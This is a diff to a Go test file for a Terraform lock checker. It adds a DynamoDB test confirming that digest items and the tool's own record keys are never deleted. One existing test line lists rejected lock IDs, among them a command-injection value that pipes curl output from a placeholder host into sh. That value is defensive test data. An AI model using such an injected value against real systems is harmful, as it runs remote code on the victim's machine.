@@ -1,9 +1,14 @@
 package lockcheck
 
 import (
+	"context"
 	"testing"
+	"time"
 
+	"github.com/aws/aws-sdk-go-v2/aws"
+	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
 	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
 )
 
 func TestUnderPrefixMatchesWholeSegments(t *testing.T) {
@@ -37,4 +42,38 @@ func TestValidLockID(t *testing.T) {
 	for _, bad := range []string{"", `x"; $(curl -s https://e.example|sh) #`, "a,b", "a b", "a\nb", "-a", "`id`", string(make([]byte, 129))} {
 		assert.False(t, ValidLockID(bad), "%q", bad)
 	}
+}
+
+// A lock item that becomes a digest item (gains a Digest) between the read
+// and the delete is refused by DynamoDB itself: the delete is conditioned
+// on attribute_not_exists(Digest) as well as on the Info read.
+func TestRemoveNeverDeletesAnItemWithADigest(t *testing.T) {
+	t.Parallel()
+	ddb, table := newTable(t)
+	ctx := context.Background()
+	const path = "bkt/app/terraform.tfstate-md5"
+	raw := infoJSON("digest-lock", path, "runner@fv-az1", time.Now().Add(-time.Hour))
+	putItem(t, ddb, table, map[string]string{"LockID": path, "Info": raw})
+	api := &retaker{DynamoDBAPI: ddb}
+	st := &DynamoDBStore{API: api, Table: table}
+	api.put = func() {
+		putItem(t, ddb, table, map[string]string{"LockID": path, "Info": raw, "Digest": "0123456789abcdef0123456789abcdef"})
+	}
+	err := st.RemoveIfUnchanged(ctx, path, raw, Location{Source: SourceDynamoDB, Table: table})
+	require.ErrorIs(t, err, ErrLockChanged)
+	out, err := ddb.GetItem(ctx, &dynamodb.GetItemInput{TableName: aws.String(table), Key: lockKey(path), ConsistentRead: aws.Bool(true)})
+	require.NoError(t, err)
+	assert.NotNil(t, out.Item["Digest"], "the digest item is still there")
+
+	// Read back, it is no longer the lock that was read.
+	_, _, present, err := st.Current(ctx, path, Location{})
+	require.NoError(t, err)
+	assert.True(t, present)
+	got, _, _, _ := st.Current(ctx, path, Location{})
+	assert.Empty(t, got, "an item with a Digest has no lock Info to compare")
+
+	// And this action's own keys are never deleted, whatever they hold.
+	recordKey := StateRecordPrefix + "bkt/app/terraform.tfstate"
+	putItem(t, ddb, table, map[string]string{"LockID": recordKey, "Info": raw})
+	require.ErrorIs(t, st.RemoveIfUnchanged(ctx, recordKey, raw, Location{}), ErrLockChanged)
 }
